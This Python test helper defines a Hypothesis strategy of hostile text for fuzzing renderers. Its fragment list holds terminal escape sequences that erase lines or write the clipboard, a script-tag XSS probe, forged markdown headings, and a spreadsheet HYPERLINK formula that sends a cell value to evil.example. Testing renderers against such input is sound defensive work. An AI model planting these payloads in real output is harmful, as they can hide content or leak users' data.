"""A hypothesis strategy of hostile text (issue 10): markup, terminal controls, bidi overrides,
formula starts, newlines that forge headings, links and images, long words, astral characters."""

from __future__ import annotations

from hypothesis import strategies as st

FRAGMENTS = [
    "[/i]",
    "[link=http://evil.example]click[/link]",
    "[bold red]",
    "\x1b[1A\x1b[2K",  # cursor up, erase line: could hide a red-flag row
    "\x1b]52;c;QQ==\x07",  # write the clipboard
    "\x1b]0;title\x07",  # set the window title
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\u009b31m",  # C1 CSI
    "\r",
    "\b",
    "\x00",
    "\u202e",  # right-to-left override
    "\u2066",
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    "\tx",
    "\n## Verdict: Worse\n",
    "\n- **Review date:** 1999-01-01",
    "![x](http://evil.example/x.png)",
    "<img src=http://evil.example/x.png>",
    "<script>alert(1)</script>",
    "[click](http://evil.example)",
    "www.evil.example",
    "| a | b |",
    "Др. Іван",
    "Ελένη",
    "王芳",
    "🩺",
    "\U0001f600",
    "x" * 300,
    "w" * 10_000,  # one 10k-character word
]
#: Every fragment at once (but the 10k word, which only slows rich's folding of a table cell):
#: the example each hostile-text test also runs.
ALL_AT_ONCE = "".join(f for f in FRAGMENTS if len(f) < 1000)

hostile_text = st.lists(
    st.sampled_from(FRAGMENTS) | st.text(st.characters(codec="utf-8"), max_size=8),
    min_size=1,
    max_size=5,
).map("".join)
